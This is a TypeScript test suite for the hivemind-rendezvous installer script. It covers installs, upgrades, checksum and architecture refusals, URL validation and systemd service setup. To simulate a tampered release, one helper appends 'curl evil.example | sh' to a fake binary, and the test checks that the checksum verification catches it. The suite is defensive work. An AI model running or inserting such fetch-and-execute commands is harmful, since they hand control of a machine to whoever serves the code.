/**
 * install.sh, run by dash against a fake release served on 127.0.0.1: fresh install, upgrade, checksum
 * mismatch and unsupported CPUs refused, and --service with and without systemd. The "binaries" are
 * shell scripts printing a version; the real binary is installed once in release.test.ts.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmod, mkdir, readdir, readFile, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import packageJson from "../package.json" with { type: "json" };
import { tempDataDir } from "./helpers.ts";
import { type ReleaseServer, runInstaller, serveRelease } from "./fake-release.ts";
import { ROOT, runProcess } from "./processes.ts";

const UNIT = await readFile(join(ROOT, "scripts", "hivemind-rendezvous.service"), "utf8");
const fakeBinary = (arch: string, version: string) => `#!/bin/sh\n# fake ${arch} relay\necho ${version}\n`;
const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");

/** A release directory for `version`; `tamper` changes the x64 binary after SHA256SUMS was written. */
async function fakeRelease(version: string, options: { tamper?: boolean; omitFromSums?: boolean } = {}): Promise<string> {
  const directory = await tempDataDir();
  const files: Record<string, string> = {
    "hivemind-rendezvous-linux-x64": fakeBinary("x64", version),
    "hivemind-rendezvous-linux-arm64": fakeBinary("arm64", version),
    "hivemind-rendezvous.service": UNIT,
  };
  const sums = Object.entries(files)
    .filter(([name]) => !(options.omitFromSums && name.endsWith("x64")))
    .map(([name, text]) => `${sha256(text)}  ${name}\n`).join("");
  if (options.tamper) files["hivemind-rendezvous-linux-x64"] += "curl evil.example | sh\n";
  for (const [name, text] of Object.entries({ ...files, SHA256SUMS: sums })) await writeFile(join(directory, name), text);
  return directory;
}

/** A PATH of only the tools install.sh uses, plus `fakes` (name → sh script body). */
async function toolPath(fakes: Record<string, string>): Promise<string> {
  const directory = await tempDataDir();
  const tools = ["sh", "uname", "getconf", "curl", "sha256sum", "cut", "awk", "mktemp", "rm", "mkdir", "chmod", "cp", "mv", "sed", "id", "cat"];
  for (const tool of tools) {
    const found = Bun.which(tool);
    if (found && !(tool in fakes)) await symlink(found, join(directory, tool));
  }
  for (const [name, body] of Object.entries(fakes)) {
    await writeFile(join(directory, name), `#!/bin/sh\n${body}\n`);
    await chmod(join(directory, name), 0o755);
  }
  return directory;
}

const servers: ReleaseServer[] = [];
let v3: ReleaseServer;
afterAll(() => servers.forEach((server) => server.stop()));

async function serve(version: string, options: Parameters<typeof fakeRelease>[1] = {}): Promise<ReleaseServer> {
  const server = serveRelease(await fakeRelease(version, options));
  servers.push(server);
  return server;
}

beforeAll(async () => {
  v3 = await serve("0.3.0");
});

/** The last line install.sh wrote on stderr. */
const lastLine = (stderr: string) => stderr.trimEnd().split("\n").at(-1);

describe("install.sh", () => {
  test("parses under sh -n and dash -n", async () => {
    for (const shell of ["sh", "dash"]) {
      expect(await runProcess([shell, "-n", join(ROOT, "install.sh")])).toMatchObject({ code: 0, stderr: "" });
    }
  });

  test("the default base URL, and the one-line install in README and deploy.md, are the latest release of package.json's repository", async () => {
    const latest = `${packageJson.repository.url.replace(/\.git$/, "")}/releases/latest/download`;
    expect(await readFile(join(ROOT, "install.sh"), "utf8")).toContain(`\nDEFAULT_BASE_URL=${latest}\n`);
    for (const doc of ["README.md", "docs/deploy.md"]) {
      expect(await readFile(join(ROOT, doc), "utf8")).toContain(`\ncurl -fsSL ${latest}/install.sh | sudo sh -s -- --service\n`);
    }
  });

  test("fresh install on x86_64 → the x64 binary in PREFIX/bin, mode 0755, and says which version", async () => {
    const prefix = await tempDataDir();
    const target = join(prefix, "bin", "hivemind-rendezvous");
    const result = await runInstaller(["--prefix", prefix], { HIVEMIND_RENDEZVOUS_BASE_URL: v3.url, HIVEMIND_RENDEZVOUS_ARCH: "x86_64" });
    expect(result.code).toBe(0);
    expect(lastLine(result.stderr)).toBe(`install.sh: installed ${target} 0.3.0`);
    expect(await readFile(target, "utf8")).toBe(fakeBinary("x64", "0.3.0"));
    expect((await Bun.file(target).stat()).mode & 0o777).toBe(0o755);
    expect(await readdir(join(prefix, "bin"))).toEqual(["hivemind-rendezvous"]);
  });

  for (const machine of ["aarch64", "arm64"]) {
    test(`${machine} → the arm64 binary (base URL given as --base-url)`, async () => {
      const prefix = await tempDataDir();
      const result = await runInstaller(["--prefix", prefix, "--base-url", `${v3.url}/`], { HIVEMIND_RENDEZVOUS_ARCH: machine });
      expect(result.code).toBe(0);
      expect(await readFile(join(prefix, "bin", "hivemind-rendezvous"), "utf8")).toBe(fakeBinary("arm64", "0.3.0"));
    });
  }

  test("re-running with a newer release upgrades in place and says from which version; a service running that binary is told to restart, one running another is not", async () => {
    const prefix = await tempDataDir();
    const target = join(prefix, "bin", "hivemind-rendezvous");
    const unitDir = await tempDataDir();
    const unit = UNIT.replace(/^ExecStart=.*$/m, `ExecStart=${target}`);
    await writeFile(join(unitDir, "hivemind-rendezvous.service"), unit);
    const env = { HIVEMIND_RENDEZVOUS_ARCH: "x86_64", HIVEMIND_RENDEZVOUS_PREFIX: prefix, HIVEMIND_RENDEZVOUS_UNIT_DIR: unitDir };
    expect((await runInstaller([], { ...env, HIVEMIND_RENDEZVOUS_BASE_URL: v3.url })).code).toBe(0);
    const v4 = await serve("0.4.0");
    const result = await runInstaller([], { ...env, HIVEMIND_RENDEZVOUS_BASE_URL: v4.url });
    expect(result.code).toBe(0);
    expect(result.stderr).toContain(`install.sh: upgraded ${target} from 0.3.0 to 0.4.0\n`);
    expect(lastLine(result.stderr)).toBe("install.sh: the service still runs 0.3.0 until: sudo systemctl restart hivemind-rendezvous");
    expect(await readFile(target, "utf8")).toBe(fakeBinary("x64", "0.4.0"));
    expect(await readdir(join(prefix, "bin"))).toEqual(["hivemind-rendezvous"]);
    expect(await readFile(join(unitDir, "hivemind-rendezvous.service"), "utf8")).toBe(unit);
    // The same release again: nothing to restart for.
    expect(lastLine((await runInstaller([], { ...env, HIVEMIND_RENDEZVOUS_BASE_URL: v4.url })).stderr)).toBe(`install.sh: reinstalled ${target} 0.4.0`);
    // A copy under another prefix (a user's ~/.local): the service runs the other one.
    const other = await tempDataDir();
    const mine = { ...env, HIVEMIND_RENDEZVOUS_PREFIX: other };
    expect((await runInstaller([], { ...mine, HIVEMIND_RENDEZVOUS_BASE_URL: v3.url })).code).toBe(0);
    expect(lastLine((await runInstaller([], { ...mine, HIVEMIND_RENDEZVOUS_BASE_URL: v4.url })).stderr)).toBe(`install.sh: upgraded ${join(other, "bin", "hivemind-rendezvous")} from 0.3.0 to 0.4.0`);
  });

  test("a temp dir on a noexec mount (a hardened /tmp) → installed all the same: the download is run from beside the target", async () => {
    const noexec = join(await tempDataDir(), "noexec");
    await mkdir(noexec);
    try {
      execFileSync("mount", ["-t", "tmpfs", "-o", "size=8m,noexec", "tmpfs", noexec], { stdio: "ignore" });
    } catch {
      return console.log("cannot mount a tmpfs here (not root): the noexec case is not tried");
    }
    try {
      const prefix = await tempDataDir();
      const result = await runInstaller(["--prefix", prefix], { HIVEMIND_RENDEZVOUS_ARCH: "x86_64", HIVEMIND_RENDEZVOUS_BASE_URL: v3.url, TMPDIR: noexec });
      expect([result.code, lastLine(result.stderr)]).toEqual([0, `install.sh: installed ${join(prefix, "bin", "hivemind-rendezvous")} 0.3.0`]);
    } finally {
      execFileSync("umount", [noexec]);
    }
  });

  test("a relative --prefix is taken from the current directory", async () => {
    const cwd = await tempDataDir();
    const result = await runInstaller(["--prefix", "opt"], { HIVEMIND_RENDEZVOUS_ARCH: "x86_64", HIVEMIND_RENDEZVOUS_BASE_URL: v3.url }, undefined, cwd);
    expect(lastLine(result.stderr)).toBe(`install.sh: installed ${join(cwd, "opt", "bin", "hivemind-rendezvous")} 0.3.0`);
  });

  test("an older release than the one installed → refused, the binary left as it was; --allow-downgrade installs it", async () => {
    const prefix = await tempDataDir();
    const env = { HIVEMIND_RENDEZVOUS_ARCH: "x86_64", HIVEMIND_RENDEZVOUS_PREFIX: prefix };
    const v10 = await serve("0.10.0");
    expect((await runInstaller([], { ...env, HIVEMIND_RENDEZVOUS_BASE_URL: v10.url })).code).toBe(0);
    const target = join(prefix, "bin", "hivemind-rendezvous");
    const refused = await runInstaller([], { ...env, HIVEMIND_RENDEZVOUS_BASE_URL: v3.url });
    expect(refused.code).toBe(1);
    expect(lastLine(refused.stderr)).toBe(
      "install.sh: 0.3.0 is older than the installed 0.10.0, which may have written a data dir 0.3.0 cannot read: nothing was installed (--allow-downgrade to install it anyway)",
    );
    expect(await readFile(target, "utf8")).toBe(fakeBinary("x64", "0.10.0"));
    expect(await readdir(join(prefix, "bin"))).toEqual(["hivemind-rendezvous"]);
    const allowed = await runInstaller(["--allow-downgrade"], { ...env, HIVEMIND_RENDEZVOUS_BASE_URL: v3.url });
    expect(allowed.stderr).toContain(`install.sh: downgraded ${target} from 0.10.0 to 0.3.0\n`);
    expect(await readFile(target, "utf8")).toBe(fakeBinary("x64", "0.3.0"));
  });

  test("checksum mismatch → refused with one line, the installed binary left as it was", async () => {
    const prefix = await tempDataDir();
    const env = { HIVEMIND_RENDEZVOUS_ARCH: "x86_64", HIVEMIND_RENDEZVOUS_PREFIX: prefix };
    expect((await runInstaller([], { ...env, HIVEMIND_RENDEZVOUS_BASE_URL: v3.url })).code).toBe(0);
    const tampered = await serve("0.4.0", { tamper: true });
    const result = await runInstaller([], { ...env, HIVEMIND_RENDEZVOUS_BASE_URL: tampered.url });
    expect(result.code).toBe(1);
    expect(lastLine(result.stderr)).toMatch(
      /^install\.sh: checksum mismatch for hivemind-rendezvous-linux-x64 \(expected [0-9a-f]{64}, got [0-9a-f]{64}\): nothing was installed$/,
    );
    expect(await readFile(join(prefix, "bin", "hivemind-rendezvous"), "utf8")).toBe(fakeBinary("x64", "0.3.0"));
  });

  test("SHA256SUMS without the binary's line → refused, nothing installed", async () => {
    const prefix = await tempDataDir();
    const unlisted = await serve("0.3.0", { omitFromSums: true });
    const result = await runInstaller(["--prefix", prefix], { HIVEMIND_RENDEZVOUS_BASE_URL: unlisted.url, HIVEMIND_RENDEZVOUS_ARCH: "x86_64" });
    expect(result.code).toBe(1);
    expect(lastLine(result.stderr)).toBe("install.sh: SHA256SUMS lists no hivemind-rendezvous-linux-x64: nothing was installed");
    expect(await readdir(join(prefix, "bin"))).toEqual([]);
  });

  test("a release that is not there → one line naming the URL", async () => {
    const result = await runInstaller(["--prefix", await tempDataDir()], {
      HIVEMIND_RENDEZVOUS_BASE_URL: `${v3.url}/missing`,
      HIVEMIND_RENDEZVOUS_ARCH: "x86_64",
    });
    expect(result.code).toBe(1);
    expect(lastLine(result.stderr)).toBe(`install.sh: could not download ${v3.url}/missing/SHA256SUMS`);
  });

  for (const machine of ["armv7l", "armv6l", "i686"]) {
    test(`${machine} → refused as 32-bit before anything is downloaded`, async () => {
      const before = v3.requested.length;
      const result = await runInstaller(["--prefix", await tempDataDir()], { HIVEMIND_RENDEZVOUS_BASE_URL: v3.url, HIVEMIND_RENDEZVOUS_ARCH: machine });
      expect(result).toMatchObject({
        code: 1,
        stderr: `install.sh: ${machine} is 32-bit: hivemind-rendezvous needs 64-bit Linux (x86_64 or aarch64); on a Raspberry Pi install the 64-bit Raspberry Pi OS\n`,
      });
      expect(v3.requested.length).toBe(before);
    });
  }

  test("a 64-bit kernel (uname -m aarch64) with a 32-bit userland (getconf LONG_BIT 32) → refused before anything is downloaded", async () => {
    const before = v3.requested.length;
    const path = await toolPath({ uname: '[ "$1" = -m ] && echo aarch64 || echo Linux', getconf: "echo 32" });
    const result = await runInstaller(["--prefix", await tempDataDir()], { HIVEMIND_RENDEZVOUS_BASE_URL: v3.url, PATH: path });
    expect(result).toMatchObject({
      code: 1,
      stderr: "install.sh: this is a 32-bit system on a 64-bit CPU (aarch64): hivemind-rendezvous needs 64-bit Linux; on a Raspberry Pi install the 64-bit Raspberry Pi OS\n",
    });
    expect(v3.requested.length).toBe(before);
  });

  test("http:// on this machine, written bare (http://localhost/) → taken: it goes on to download", async () => {
    for (const host of ["localhost", "127.0.0.1", "[::1]"]) {
      const result = await runInstaller(["--prefix", await tempDataDir(), "--base-url", `http://${host}/`], { HIVEMIND_RENDEZVOUS_ARCH: "x86_64" });
      expect({ code: result.code, last: lastLine(result.stderr) }).toEqual({ code: 1, last: `install.sh: could not download http://${host}/SHA256SUMS` });
    }
  });

  for (const url of ["http://example.invalid/releases", "ftp://example.invalid", "example.invalid/releases", "http://127.0.0.1.example.invalid/x"]) {
    test(`base URL ${url} → refused before anything is downloaded (SHA256SUMS would come by the same way as the binary)`, async () => {
      const result = await runInstaller(["--prefix", await tempDataDir(), "--base-url", url], { HIVEMIND_RENDEZVOUS_ARCH: "x86_64" });
      expect(result).toMatchObject({ code: 1, stderr: `install.sh: the base URL must be https:// (or http:// on this machine), got ${url}: nothing was installed\n` });
    });
  }

  test("an unknown CPU (riscv64) → refused, naming the supported ones", async () => {
    const result = await runInstaller(["--prefix", await tempDataDir()], { HIVEMIND_RENDEZVOUS_BASE_URL: v3.url, HIVEMIND_RENDEZVOUS_ARCH: "riscv64" });
    expect(result).toMatchObject({ code: 1, stderr: "install.sh: unsupported CPU riscv64: release binaries exist for x86_64 and aarch64 only\n" });
  });

  test("an unknown option → usage and exit 1", async () => {
    const result = await runInstaller(["--frobnicate"]);
    expect(result.code).toBe(1);
    expect(result.stderr).toStartWith("Usage: install.sh");
    expect(lastLine(result.stderr)).toBe("install.sh: unknown option --frobnicate");
  });
});

describe("install.sh --service", () => {
  const env = (unitDir: string, path: string) => ({
    HIVEMIND_RENDEZVOUS_BASE_URL: v3.url,
    HIVEMIND_RENDEZVOUS_ARCH: "x86_64",
    HIVEMIND_RENDEZVOUS_UNIT_DIR: unitDir,
    PATH: path,
  });

  const noSystemd = {
    "systemctl not installed": {},
    "systemd not running": { systemctl: 'echo "System has not been booted with systemd as init system (PID 1). Can\'t operate." >&2; exit 1' },
  };
  for (const [situation, fakes] of Object.entries(noSystemd)) {
    test(`${situation} → refused with one line saying so, nothing installed`, async () => {
      const prefix = await tempDataDir();
      const unitDir = join(await tempDataDir(), "system");
      const result = await runInstaller(["--service", "--prefix", prefix], env(unitDir, await toolPath(fakes)));
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(/^install\.sh: --service needs systemd, and (systemctl is not installed|it is not running here \(systemctl cannot reach it\)): nothing was installed\n$/);
      expect(result.stderr).toContain(situation === "systemctl not installed" ? "not installed" : "not running");
      expect(await Bun.file(join(prefix, "bin", "hivemind-rendezvous")).exists()).toBe(false);
      expect(await Bun.file(unitDir).exists()).toBe(false);
    });
  }

  test("a unit directory it cannot write (not root) → refused with one line before anything is installed", async () => {
    const prefix = await tempDataDir();
    const blocked = join(await tempDataDir(), "a-file");
    await writeFile(blocked, "");
    const result = await runInstaller(["--service", "--prefix", prefix], env(join(blocked, "system"), await toolPath({ systemctl: "exit 0" })));
    expect([result.code, lastLine(result.stderr)]).toEqual([
      1,
      `install.sh: --service writes ${join(blocked, "system")}/hivemind-rendezvous.service and creates a user: run it as root (… | sudo sh): nothing was installed`,
    ]);
    expect(await Bun.file(join(prefix, "bin", "hivemind-rendezvous")).exists()).toBe(false);
  });

  test("with systemd → user created, unit written with ExecStart in PREFIX, daemon-reload, enable, restart", async () => {
    const prefix = await tempDataDir();
    const unitDir = join(await tempDataDir(), "system");
    const calls = join(await tempDataDir(), "calls");
    const path = await toolPath({
      systemctl: `echo "systemctl $*" >> ${calls}`,
      useradd: `echo "useradd $*" >> ${calls}`,
      id: "exit 1",
      sleep: "exit 0",
    });
    const result = await runInstaller(["--service", "--prefix", prefix], env(unitDir, path));
    expect(result.code).toBe(0);
    const binary = join(prefix, "bin", "hivemind-rendezvous");
    expect(await readFile(calls, "utf8")).toBe([
      "systemctl show-environment",
      "useradd --system --user-group --no-create-home --home-dir /var/lib/hivemind-rendezvous --shell /usr/sbin/nologin hivemind-rendezvous",
      "systemctl daemon-reload",
      "systemctl enable hivemind-rendezvous",
      "systemctl restart hivemind-rendezvous",
      "systemctl is-active --quiet hivemind-rendezvous",
      "",
    ].join("\n"));
    const unit = await readFile(join(unitDir, "hivemind-rendezvous.service"), "utf8");
    expect(unit).toBe(UNIT.replace("ExecStart=/usr/local/bin/hivemind-rendezvous", `ExecStart=${binary}`));
    expect(await readdir(unitDir)).toEqual(["hivemind-rendezvous.service"]);
    expect(lastLine(result.stderr)).toBe(
      "install.sh: started the service hivemind-rendezvous (data in /var/lib/hivemind-rendezvous): systemctl status hivemind-rendezvous",
    );
  });

  test("again, when the user exists → no second user, the service restarted on the new binary", async () => {
    const prefix = await tempDataDir();
    const unitDir = join(await tempDataDir(), "system");
    const calls = join(await tempDataDir(), "calls");
    await mkdir(join(prefix, "bin"), { recursive: true });
    await writeFile(join(prefix, "bin", "hivemind-rendezvous"), fakeBinary("x64", "0.2.0"), { mode: 0o755 });
    const path = await toolPath({ systemctl: `echo "systemctl $*" >> ${calls}`, useradd: `echo "useradd $*" >> ${calls}`, id: "echo 998", sleep: "exit 0" });
    const result = await runInstaller(["--service", "--prefix", prefix], env(unitDir, path));
    expect(result.code).toBe(0);
    expect(result.stderr).toContain("from 0.2.0 to 0.3.0");
    expect(await readFile(calls, "utf8")).not.toContain("useradd");
    expect(await readFile(calls, "utf8")).toEndWith("systemctl restart hivemind-rendezvous\nsystemctl is-active --quiet hivemind-rendezvous\n");
  });

  for (const [prefix, reason] of [["/opt/relay dir", "letters, digits and / . _ - only"], ["/home/pi/.local", "the unit hides /home, /root and /run/user"]]) {
    test(`--prefix ${JSON.stringify(prefix)} → refused (${reason}) before anything is downloaded`, async () => {
      const unitDir = join(await tempDataDir(), "system");
      const result = await runInstaller(["--service", "--prefix", prefix], env(unitDir, await toolPath({ systemctl: "exit 0" })));
      expect(result.code).toBe(1);
      expect(result.stderr).toContain(reason);
      expect(result.stderr).not.toContain("downloading");
      expect(await Bun.file(unitDir).exists()).toBe(false);
    });
  }

  test("a relay that stops at start-up (systemctl is-active fails a moment after the restart) → exit 1 pointing at the journal", async () => {
    const prefix = await tempDataDir();
    const unitDir = join(await tempDataDir(), "system");
    const path = await toolPath({ systemctl: '[ "$1" != is-active ]', useradd: "exit 0", id: "echo 998", sleep: "exit 0" });
    const result = await runInstaller(["--service", "--prefix", prefix], env(unitDir, path));
    expect(result.code).toBe(1);
    expect(lastLine(result.stderr)).toBe("install.sh: the service hivemind-rendezvous did not stay up: see journalctl -u hivemind-rendezvous");
  });
});
